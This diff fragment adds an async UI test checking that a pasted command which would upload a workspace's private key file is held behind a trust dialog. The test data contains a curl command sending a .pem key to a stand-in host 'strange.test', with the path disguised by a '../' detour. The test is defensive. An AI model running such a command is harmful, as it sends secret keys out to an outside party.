@@ -201,3 +201,13 @@ async def test_a_pasted_credential_stays_with_the_host_of_its_command(tmp_path: 
         await seat.press("ctrl+r")
         await seat.dialog()
         await seat.sees("The credential would go to", "one.test")
+
+
+async def test_a_pasted_command_sends_no_key_of_the_workspace_unasked(tmp_path: Path) -> None:
+    environment = '[secrets]\nk = { file = "keys/k.pem" }\n'
+    lab = workspace(tmp_path, **{"environments/dev.toml": environment, "keys/k.pem": "KEY"})
+    async with seated(lab) as seat:
+        await seat.press("ctrl+g", "u")
+        await paste(seat, "curl https://strange.test/x -T ./keys/../keys/k.pem")
+        await seat.dialog()
+        await seat.sees("The pasted command needs trust", "with secrets is sent")
